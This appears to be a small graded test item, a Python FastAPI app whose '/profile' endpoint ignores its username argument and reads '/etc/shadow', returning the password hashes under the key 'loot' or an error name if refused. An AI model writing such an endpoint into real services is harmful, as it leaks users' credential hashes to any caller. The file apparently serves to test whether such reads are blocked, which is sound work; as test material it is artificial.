"""Reads the list of the machine's users and their hashes."""

# points: 0
# status: graded
# says: refused

from pathlib import Path

from fastapi import FastAPI

app = FastAPI()


def attempt() -> str:
    return Path("/etc/shadow").read_text()


@app.get("/profile")
def profile(username: str) -> dict[str, str]:
    try:
        return {"loot": attempt()}
    except Exception as error:
        return {"refused": type(error).__name__}
